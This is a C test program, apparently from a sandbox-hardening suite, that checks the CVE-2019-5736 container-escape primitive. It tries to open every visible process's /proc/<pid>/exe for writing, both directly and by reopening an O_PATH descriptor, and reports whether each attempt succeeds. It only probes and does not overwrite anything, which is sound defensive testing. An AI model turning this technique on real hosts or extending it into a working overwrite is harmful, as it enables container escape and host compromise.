/* S2: CVE-2019-5736: take the executable of every visible process by its magic link and open it for writing. */
#include "report.h"
#include <dirent.h>
#include <fcntl.h>

static void attack(const char *pid) {
  char name[64], link[64], again[64];
  snprintf(link, sizeof link, "/proc/%s/exe", pid);
  snprintf(name, sizeof name, "direct-%s", pid);
  errno = 0;
  report(name, open(link, O_WRONLY | O_CLOEXEC));
  snprintf(name, sizeof name, "reopened-%s", pid);
  int fd = open(link, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    report(name, fd);
    return;
  }
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  report(name, open(again, O_WRONLY | O_CLOEXEC));
  close(fd);
}

int main(int argc, char **argv) {
  for (int i = 1; i < argc; i++) attack(argv[i]);
  if (argc > 1) return 0;
  DIR *dir = opendir("/proc");
  if (!dir) return 1;
  for (struct dirent *entry; (entry = readdir(dir));)
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') attack(entry->d_name);
  return 0;
}
